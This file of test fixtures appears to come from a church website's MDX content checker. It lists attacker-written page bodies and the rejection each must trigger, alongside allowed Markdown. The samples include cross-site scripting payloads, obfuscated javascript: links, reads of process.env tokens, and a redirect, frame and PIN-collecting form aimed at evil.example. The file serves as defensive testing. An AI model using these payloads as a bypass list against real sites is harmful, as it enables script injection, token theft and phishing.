/**
 * Bodies an attacker with editing rights might write, each with every problem it must produce, and bodies an
 * editor may write: one table for the content check (body-rules.test.ts) and for the build's own compile with
 * next.config.mjs's plugins (mdx-compile.test.ts), which must refuse exactly the same.
 */
import { messages } from '../body-rules.mjs'

/** A content file around a body: the body starts on line 4. */
export const ATTACK_FILE = 'content/pages/attack.en.mdx'
export const fileWith = (body: string) => `---\ntitle: Attack\n---\n${body}\n`

const SCHEME = messages.scheme
const { spread, expression, picture } = messages

/** [what the attacker tries, the body, each problem as `line:column: message`] */
export const attacks: [string, string, string[]][] = [
  // Code run by the build or in the browser
  [
    "code in an attribute (reads the build's environment)",
    '<span title={String(typeof process) + "-" + Object.keys(process.env).length}>probe</span>',
    [`4:7: ${messages.valueExpression('title')}`],
  ],
  ['code in the text', 'Token: {process.env.GITHUB_TOKEN}', [`4:8: ${expression}`]],
  ['code in a flow expression', '{(() => { require("fs").writeFileSync("x", "y") })()}', [`4:1: ${expression}`]],
  ['code in a heading', '## {new Date().getFullYear()}', [`4:4: ${expression}`]],
  ["code in a link's text", '[{process.env.HOME}](/church/)', [`4:2: ${expression}`]],
  ['code after a note', '{/* a note */ process.exit(1)}', [`4:1: ${expression}`]],
  ['an export', 'export const token = process.env.TOKEN', [`4:1: ${messages.esm}`]],
  ['an import', "import fs from 'node:fs'", [`4:1: ${messages.esm}`]],
  [
    'raw HTML through React',
    '<p dangerouslySetInnerHTML={{ __html: "<img src=x onerror=alert(1)>" }} />',
    [`4:4: ${messages.valueExpression('dangerouslySetInnerHTML')}`],
  ],
  [
    'raw HTML through a spread',
    '<p {...{ dangerouslySetInnerHTML: { __html: "<script>alert(1)</script>" } }} />',
    [`4:4: ${spread}`],
  ],
  ['a spread of props', '<a href="/church/" {...props}>x</a>', [`4:20: ${spread}`]],
  [
    "code as an allowed attribute's value",
    '<a href={"javascript:alert(1)"}>x</a>',
    [`4:4: ${messages.valueExpression('href')}`],
  ],
  ['code as a number', '<ol start={1}><li>x</li></ol>', [`4:5: ${messages.valueExpression('start')}`]],
  ['a script', '<script>alert(1)</script>', [`4:1: ${messages.script('script')}`]],
  ['a template', '<template><p>x</p></template>', [`4:1: ${messages.script('template')}`]],
  ['a slot', '<slot name="x" />', [`4:1: ${messages.script('slot')}`]],
  ['a noscript', '<noscript>x</noscript>', [`4:1: ${messages.script('noscript')}`]],
  ['an event handler', '<p onClick="alert(1)">x</p>', [`4:4: ${messages.handler('onClick')}`]],
  ['an event handler in capitals', '<p ONMOUSEOVER="alert(1)">x</p>', [`4:4: ${messages.handler('ONMOUSEOVER')}`]],
  [
    'an event handler on an allowed element',
    '<details open ontoggle="alert(1)"><summary>x</summary>y</details>',
    [`4:15: ${messages.handler('ontoggle')}`],
  ],
  ['a picture with an error handler', '<img src="x" onError="alert(1)" />', [`4:1: ${picture}`]],

  // Leaving the page: redirects, page-wide tags, frames, forms
  [
    'a redirect',
    '<meta httpEquiv="refresh" content="0;url=https://evil.example/" />',
    [`4:1: ${messages.pageWide('meta')}`],
  ],
  ['a base address', '<base href="https://evil.example/" />', [`4:1: ${messages.pageWide('base')}`]],
  ['a title', '<title>Pay here</title>', [`4:1: ${messages.pageWide('title')}`]],
  ['a stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css" />', [`4:1: ${messages.looks('link')}`]],
  [
    'a style element',
    '<style>{"body{display:none}"}</style>',
    [`4:1: ${messages.looks('style')}`, `4:8: ${expression}`],
  ],
  ['a frame', '<iframe src="https://evil.example/" />', [`4:1: ${messages.embedded('iframe')}`]],
  ['an object', '<object data="https://evil.example/x.swf" />', [`4:1: ${messages.embedded('object')}`]],
  ['an embed', '<embed src="https://evil.example/x" />', [`4:1: ${messages.embedded('embed')}`]],
  ['a video', '<video src="https://evil.example/x.mp4" autoPlay />', [`4:1: ${messages.embedded('video')}`]],
  ['an audio', '<audio src="x.mp3" />', [`4:1: ${messages.embedded('audio')}`]],
  [
    'an SVG link',
    '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
    [`4:1: ${messages.embedded('svg')}`, `4:9: ${messages.attribute('a', 'xlink:href', ['href', 'title', 'lang'])}`],
  ],
  ['MathML', '<math><mi>x</mi></math>', [`4:1: ${messages.embedded('math')}`, `4:7: ${messages.element('mi')}`]],
  [
    'a form',
    '<form action="https://evil.example/"><input name="pin" /><button>Send</button></form>',
    [`4:1: ${messages.form('form')}`, `4:38: ${messages.form('input')}`, `4:58: ${messages.form('button')}`],
  ],
  ['a div', '<div>x</div>', [`4:1: ${messages.element('div')}`]],
  ['a custom element', '<x-widget>x</x-widget>', [`4:1: ${messages.element('x-widget')}`]],
  ['a namespaced element', '<svg:rect />', [`4:1: ${messages.element('svg:rect')}`]],
  ['a component', '<Gallery />', [`4:1: ${messages.component('Gallery')}`]],
  ['a component in capitals of an allowed element', '<A href="/church/">x</A>', [`4:1: ${messages.component('A')}`]],
  ['a member component', '<motion.div>x</motion.div>', [`4:1: ${messages.element('motion.div')}`]],
  ['a fragment', '<>x</>', [`4:1: ${messages.fragment}`]],
  [
    "an element named like an object's own key",
    '<constructor>x</constructor>',
    [`4:1: ${messages.element('constructor')}`],
  ],

  // Restyling or covering the page, forging the site's marks
  ['a style', '<span style={{ position: "fixed", inset: 0 }}>Pay to 123456</span>', [`4:7: ${messages.style}`]],
  [
    'a class that makes an overlay',
    '<span className="fixed inset-0 z-50 bg-white">Pay to 123456</span>',
    [`4:7: ${messages.className('className')}`],
  ],
  ['an HTML class', '<p class="fixed inset-0">x</p>', [`4:4: ${messages.className('class')}`]],
  [
    'a forged giving mark',
    '<strong data-giving="paybill">123456</strong>',
    [`4:9: ${messages.dataMark('data-giving')}`],
  ],
  ['a forged pending mark', '<span data-pending="x">x</span>', [`4:7: ${messages.dataMark('data-pending')}`]],
  ['a forged island', '<span data-island="carousel">x</span>', [`4:7: ${messages.dataMark('data-island')}`]],
  ['an aria attribute', '<span aria-hidden="true">x</span>', [`4:7: ${messages.aria('aria-hidden')}`]],
  ['a role', '<span role="dialog">x</span>', [`4:7: ${messages.aria('role')}`]],
  ["an id taking a section's place", '<span id="contact">x</span>', [`4:7: ${messages.id}`]],
  [
    "a name taking a section's place",
    '<a name="give">x</a>',
    [`4:4: ${messages.attribute('a', 'name', ['href', 'title', 'lang'])}`],
  ],
  [
    'a link opening a window',
    '<a href="https://example.org" target="_blank">x</a>',
    [`4:31: ${messages.attribute('a', 'target', ['href', 'title', 'lang'])}`],
  ],
  [
    'a namespaced attribute',
    '<a xlink:href="https://example.org">x</a>',
    [`4:4: ${messages.attribute('a', 'xlink:href', ['href', 'title', 'lang'])}`],
  ],
  [
    'a language that is not a language code',
    '<span lang="javascript:alert(1)">x</span>',
    [`4:7: ${messages.value('lang', 'a language code, e.g. "sw" or "en"', 'javascript:alert(1)')}`],
  ],
  [
    'a boolean given a value',
    '<details open="false"><summary>x</summary></details>',
    [`4:10: ${messages.alone('details', 'open')}`],
  ],
  [
    'a table cell spanning 0 columns',
    '<table><tbody><tr><td colSpan="0">x</td></tr></tbody></table>',
    [`4:23: ${messages.value('colSpan', 'a whole number from 1 to 99, e.g. "2"', '0')}`],
  ],
  ['braces in a literal title', '<abbr title="{process.env}">x</abbr>', [`4:7: ${messages.braces('title')}`]],
  ["braces in a Markdown link's title", '[x](/church/ "{process.env.TOKEN}")', [`4:1: ${messages.titleBraces}`]],
  [
    'JSX in a table cell',
    '| a | b |\n| --- | --- |\n| <span style={{ position: "fixed" }}>x</span> | <span className="fixed">y</span> |',
    [`6:9: ${messages.style}`, `6:56: ${messages.className('className')}`],
  ],
  ['a code block whose language is code', '```{x}\nx\n```', [`4:1: ${messages.codeLanguage('{x}')}`]],

  // Links that run code or leave the site, in every spelling
  ['a javascript: link', '[x](javascript:alert(1))', [`4:1: ${SCHEME('javascript:alert(1)')}`]],
  ['a javascript: link in mixed case', '[x](JaVaScRiPt:alert(1))', [`4:1: ${SCHEME('JaVaScRiPt:alert(1)')}`]],
  [
    'a javascript: link behind a space',
    '<a href=" JaVaScRiPt:alert(1)">x</a>',
    [`4:4: ${SCHEME(' JaVaScRiPt:alert(1)')}`],
  ],
  [
    'a javascript: link behind a tab',
    '<a href="\tjavascript:alert(1)">x</a>',
    [`4:4: ${messages.hidden('\\u0009javascript:alert(1)')}`],
  ],
  [
    'a javascript: link cut by a line break',
    '<a href="java\nscript:alert(1)">x</a>',
    [`4:4: ${messages.hidden('java\\u000ascript:alert(1)')}`],
  ],
  [
    'a javascript: link cut by an invisible space',
    '[x](java\u200Bscript:alert(1))',
    [`4:1: ${messages.hidden('java\\u200bscript:alert(1)')}`],
  ],
  [
    'a javascript: link written with a character reference',
    '[x](&#106;avascript:alert(1))',
    [`4:1: ${SCHEME('javascript:alert(1)')}`],
  ],
  [
    'a javascript: link in a tag, written with character references',
    '<a href="&#x6A;avascript&#58;alert(1)">x</a>',
    [`4:4: ${SCHEME('javascript:alert(1)')}`],
  ],
  [
    'a javascript: link cut by an encoded tab',
    '[x](java&#9;script:alert(1))',
    [`4:1: ${messages.hidden('java\\u0009script:alert(1)')}`],
  ],
  [
    'a javascript: link with a named character reference for its colon',
    '<a href="javascript&colon;alert(1)">x</a>',
    [`4:4: ${SCHEME('javascript:alert(1)')}`],
  ],
  [
    'a javascript: link cut by a named tab',
    '[x](java&Tab;script:alert(1))',
    [`4:1: ${messages.hidden('java\\u0009script:alert(1)')}`],
  ],
  [
    'a link leaving the site through encoded slashes',
    '<a href="&#x2F;&#x2F;evil.example">x</a>',
    [`4:4: ${messages.protocolRelative('//evil.example')}`],
  ],
  [
    'a javascript: link as a template string',
    '<a href={`javascript:alert(1)`}>x</a>',
    [`4:4: ${messages.valueExpression('href')}`],
  ],
  [
    'a javascript: reference definition in angle brackets',
    '[x]\n\n[x]: <javascript:alert(1)>',
    [`6:1: ${SCHEME('javascript:alert(1)')}`],
  ],
  [
    'a javascript: reference definition',
    '[x][evil]\n\n[evil]: javascript:alert(1)',
    [`6:1: ${SCHEME('javascript:alert(1)')}`],
  ],
  ['a javascript: link in angle brackets', '[x](<javascript:alert(1)>)', [`4:1: ${SCHEME('javascript:alert(1)')}`]],
  ['a vbscript: link', '[x](vbscript:msgbox(1))', [`4:1: ${SCHEME('vbscript:msgbox(1)')}`]],
  [
    'a data: link',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    [`4:4: ${SCHEME('data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==')}`],
  ],
  ['a file: link', '[x](file:///etc/passwd)', [`4:1: ${SCHEME('file:///etc/passwd')}`]],
  [
    'a link without a scheme that leaves the site',
    '[x](//evil.example/)',
    [`4:1: ${messages.protocolRelative('//evil.example/')}`],
  ],
  [
    'a link that leaves the site through a backslash',
    '[x](/\\evil.example/)',
    [`4:1: ${messages.hidden('/\\evil.example/')}`],
  ],
  ['a link of two backslashes', '<a href="\\\\evil.example">x</a>', [`4:4: ${messages.hidden('\\\\evil.example')}`]],
  [
    'an https: link without its slashes',
    '[x](https:evil.example)',
    [`4:1: ${messages.incomplete('https:evil.example')}`],
  ],
  ['a relative link', '[x](evil/page)', [`4:1: ${messages.relative('evil/page')}`]],
  ['an empty link', '<a href="">x</a>', [`4:4: ${messages.relative('')}`]],
  ['a link without its address', '<a href>x</a>', [`4:4: ${messages.needsValue('href')}`]],
]

/** Bodies an editor may write: the check finds nothing and the build compiles them. */
export const allowed: [string, string][] = [
  [
    'Markdown',
    '## Our Vision\n\nWe are **a ministry** with *many* ~~one~~ congregations.\n\n- one\n- two\n\n1. first\n\n> A verse\n\n---\n\n`code {x}`\n\n```js\nconst x = {a: 1}\n```',
  ],
  ['a table', '| Day | Time |\n| :-- | --: |\n| Sunday | 10:00 |'],
  ['a footnote', 'Founded in 1992[^1].\n\n[^1]: By the first pastors.'],
  [
    'links of every allowed kind',
    '[a](/church/) [b](/church/#region-Nairobi) [c](#text-our-vision) [d](https://example.org/) [e](mailto:office@example.org) [f](tel:+254712345678) [g](sms:+254712345678) https://example.org office@example.org\n\n[h][ref]\n\n[ref]: /church/ "Our churches"',
  ],
  ['a note', '{/* Ask the pastor before changing this. */}\n\nText {/* inline note */} here.'],
  ['a code block whose language looks like classes (it becomes "language-fixed" only)', '```fixed inset-0\nx\n```'],
  ['an escaped brace', 'Our motto \\{faith\\}.'],
  [
    'the allowed tags',
    '<abbr title="Africa Inland Church" lang="en">AIC</abbr> H<sub>2</sub>O x<sup>2</sup> <span lang="sw">Karibu</span><br />\n\n<details open>\n<summary>More</summary>\n\nText\n\n</details>\n\n<a href="/church/" title="Our churches">Churches</a>\n\n<ol start="3"><li>Third</li></ol>\n\n<table><tbody><tr><th scope="row" colSpan="2" align="left">x</th><td rowSpan="2">y</td></tr></tbody></table>\n\n<em>e</em> <strong>s</strong> <del>d</del> <code>c</code>\n\n<pre>p</pre>\n\n<blockquote>q</blockquote>\n\n<hr />\n\n<h2>Heading</h2>',
  ],
]
